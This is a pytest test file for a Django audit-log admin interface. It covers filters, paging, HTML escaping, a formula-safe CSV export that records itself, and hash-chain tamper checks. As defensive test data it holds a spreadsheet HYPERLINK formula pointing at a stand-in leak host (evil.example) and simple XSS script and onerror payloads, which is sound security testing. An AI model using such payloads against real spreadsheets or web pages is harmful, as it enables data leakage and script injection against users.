"""The platform administrator's audit log pages: filters, 50 events a page, one event in
full (escaped), the CSV download (BOM, header, formulas neutralised) recorded as
``audit.exported`` before it leaves, and the chain check recorded as ``audit.verified``."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from django.db import connection
from django.test import Client
from django.utils import timezone

from safestats.audit.models import AuditEvent
from safestats.audit.selectors import CSV_COLUMNS
from safestats.audit.services import Actor, record
from tests.factories import OrganisationFactory
from tests.platform import event, signed_in_admin, text

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak","Click me")'


@pytest.fixture
def admin_client() -> Client:
    return signed_in_admin()[0]


def rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8").removeprefix("\ufeff"))))


def test_filters_narrow_the_log(admin_client: Client) -> None:
    camden = OrganisationFactory.create(name="Camden Council")
    record("agreement.revoked", actor=Actor.system(), organisation=camden, target=camden)
    record("user.sign_in_failed", actor=Actor.anonymous("someone@example.org"))

    by_event = text(admin_client.get("/platform/audit?event=agreement."))
    assert "agreement.revoked" in by_event and "user.sign_in_failed" not in by_event
    by_actor = text(admin_client.get("/platform/audit?actor=SOMEONE@example.org"))
    assert "user.sign_in_failed" in by_actor and "agreement.revoked" not in by_actor
    by_organisation = admin_client.get(f"/platform/audit?organisation={camden.pk}")
    assert "agreement.revoked" in text(by_organisation)
    assert f'<option value="{camden.pk}" selected>Camden Council</option>' in (
        by_organisation.content.decode()
    )
    by_target = text(
        admin_client.get(
            f"/platform/audit?target_type=organisations.organisation&target_id={camden.pk}"
        )
    )
    assert "agreement.revoked" in by_target and "user.sign_in_failed" not in by_target
    today = timezone.localdate().isoformat()
    tomorrow = (timezone.localdate() + timedelta(days=1)).isoformat()
    assert "agreement.revoked" in text(admin_client.get(f"/platform/audit?since={today}"))
    assert "No events match" in text(admin_client.get(f"/platform/audit?since={tomorrow}"))
    wrong = admin_client.get(f"/platform/audit?since={tomorrow}&until={today}")
    assert "The to date must be the same as or after the from date" in text(wrong)
    assert "No events match" in text(wrong)
    nonsense = admin_client.get("/platform/audit?since=31/02/2025")
    assert "The from date must be a real date, like 2025-04-01" in text(nonsense)


def test_the_log_is_paged_fifty_at_a_time_newest_first(admin_client: Client) -> None:
    for n in range(60):
        record("test.filler", actor=Actor.system(), payload={"n": n})
    first = admin_client.get("/platform/audit?event=test.")
    html = first.content.decode()
    assert "60 events" in text(first)
    assert html.count('<td class="govuk-table__cell">test.filler</td>') == 50
    assert 'href="?event=test.&amp;page=2"' in html
    second = admin_client.get("/platform/audit?event=test.&page=2").content.decode()
    assert second.count('<td class="govuk-table__cell">test.filler</td>') == 10
    oldest = AuditEvent.objects.filter(event="test.filler").order_by("seq")[0]
    assert f'href="/platform/audit/events/{oldest.seq}"' in second


def test_an_event_is_shown_in_full_and_escaped(admin_client: Client) -> None:
    shown = record(
        "test.shown",
        actor=Actor.anonymous("<img src=x onerror=alert(1)>"),
        payload={"note": "<script>alert(1)</script>", "changes": {"name": {"before": "A"}}},
    )
    page = admin_client.get(f"/platform/audit/events/{shown.seq}")
    html = page.content.decode()
    assert "<script>alert(1)</script>" not in html and "<img src=x" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert '<dt class="govuk-summary-list__key">note</dt>' in html
    assert "&quot;before&quot;: &quot;A&quot;" in html
    assert shown.hash in html and shown.prev_hash in html
    assert admin_client.get("/platform/audit/events/999999").status_code == 404


def test_csv_download_is_formula_safe_and_is_itself_audited(admin_client: Client) -> None:
    camden = OrganisationFactory.create(name="Camden Council")
    record("user.sign_in_failed", actor=Actor.anonymous(EVIL), payload={"email": EVIL})
    record("agreement.revoked", actor=Actor.system(), organisation=camden, target=camden)
    before = AuditEvent.objects.order_by("-seq")[0].seq

    response = admin_client.get("/platform/audit/download?event=user.sign_in_failed")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="safestats-audit-')
    assert response["X-Content-Type-Options"] == "nosniff"
    body = response.getvalue()
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM, for spreadsheets
    header = body.decode("utf-8").removeprefix("\ufeff").splitlines()[0]
    assert header == ",".join(CSV_COLUMNS)
    (row,) = rows(body)
    assert row["event"] == "user.sign_in_failed"
    assert row["actor_label"] == "'" + EVIL  # text to a spreadsheet, never a formula
    assert json.loads(row["payload"]) == {"email": EVIL}

    exported = event("audit.exported")
    assert exported.seq == before + 1, "recorded before the rows left"
    assert exported.actor_label == "gla.admin@london.gov.uk"
    assert exported.payload["rows"] == 1
    assert exported.payload["filters"]["event_prefix"] == "user.sign_in_failed"
    assert exported.payload["destination"] == "download"
    assert exported.request_id  # tied to the request that asked

    everything = rows(admin_client.get("/platform/audit/download").getvalue())
    assert exported.seq in {int(r["seq"]) for r in everything}
    assert event("audit.exported").payload["rows"] == len(everything)


def test_a_download_with_bad_filters_is_refused_with_the_message(admin_client: Client) -> None:
    response = admin_client.get("/platform/audit/download?since=tomorrow")
    assert response.status_code == 400
    assert "The from date must be a real date" in text(response)
    assert not AuditEvent.objects.filter(event="audit.exported").exists()


def test_check_the_chain(admin_client: Client) -> None:
    assert "Check the chain" in text(admin_client.get("/platform/audit/verify"))
    response = admin_client.post("/platform/audit/verify")
    words = text(response)
    assert "The audit log is intact" in words
    checked = event("audit.verified")
    assert checked.payload["ok"] is True
    assert checked.payload["checked"] == checked.seq - 1
    assert checked.payload["last_hash"] in response.content.decode()


@pytest.mark.skipif(
    connection.vendor == "postgresql", reason="PostgreSQL's trigger refuses the tampering"
)
def test_check_the_chain_names_the_first_broken_event(admin_client: Client) -> None:
    AuditEvent.objects.filter(seq=2).update(actor_label="someone else")
    response = admin_client.post("/platform/audit/verify")
    assert "The audit log is broken at event 2" in text(response)
    assert event("audit.verified").payload["first_bad_seq"] == 2
